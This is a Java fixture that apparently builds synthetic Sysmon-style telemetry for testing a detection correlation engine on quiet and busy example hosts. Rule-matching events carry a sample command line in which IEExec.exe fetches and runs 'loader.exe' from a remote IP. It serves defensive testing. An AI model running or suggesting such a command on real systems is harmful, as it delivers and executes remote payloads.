package io.weir.correlate;

import io.weir.correlate.Telemetry.Told;
import io.weir.match.MatchedEvent;
import java.util.Locale;

/**
 * Hosts to measure by. A quiet host starts three processes, one of which matches a rule and connects once; a busy host does nothing else all day: of four events the
 * first starts a process, and the others are what it does, which rules match.
 */
public final class HostTales {

    /** How many a quiet host has. */
    public static final int QUIET_EVENTS = 4;

    private HostTales() {}

    /** The events of quiet hosts, one host after the other. */
    public static MatchedEvent quiet(int number) {
        return quiet(number / QUIET_EVENTS, number % QUIET_EVENTS);
    }

    private static MatchedEvent quiet(int host, int step) {
        var told = switch (step) {
            case 0 -> Telemetry.start(id(host, step), host / 100, process(host, 0), process(host, 9));
            case 1 ->
                Telemetry.start(id(host, step), host / 100 + 5, process(host, 1), process(host, 0))
                        .matching(Telemetry.A);
            case 2 -> Telemetry.start(id(host, step), host / 100 + 6, process(host, 2), process(host, 1));
            default ->
                Telemetry.act(id(host, step), host / 100 + 7, process(host, 2)).matching(Telemetry.B);
        };
        return shown(told.on("ws-" + host + ".example.net")).event();
    }

    /** The events of one busy host. */
    public static MatchedEvent busy(int number) {
        var told = number % 4 == 0
                ? Telemetry.start(id(0, number), number / 10, process(0, number), process(1, number % 50))
                : Telemetry.act(id(0, number), number / 10, process(0, number - number % 4))
                        .matching(number % 4 == 1 ? Telemetry.A : Telemetry.C);
        return shown(told.on("srv-1.example.net")).event();
    }

    /** With the fields that an analyst wants to see, as long as they usually are. */
    private static Told shown(Told told) {
        return told.rules().isEmpty()
                ? told
                : told.by("EXAMPLE\\m.keller")
                        .shows("CommandLine", "IEExec.exe http://93.184.216.34/upd/loader.exe")
                        .shows("ParentImage", "C:\\Windows\\System32\\cmd.exe")
                        .shows("Channel", "Microsoft-Windows-Sysmon/Operational");
    }

    private static String id(int host, int number) {
        return String.format(Locale.ROOT, "%016x%016x", host * 7_919L, number * 104_729L);
    }

    private static String process(int host, int number) {
        return String.format(Locale.ROOT, "%08x-99b3-6af1-0009-%012x", host, number);
    }
}
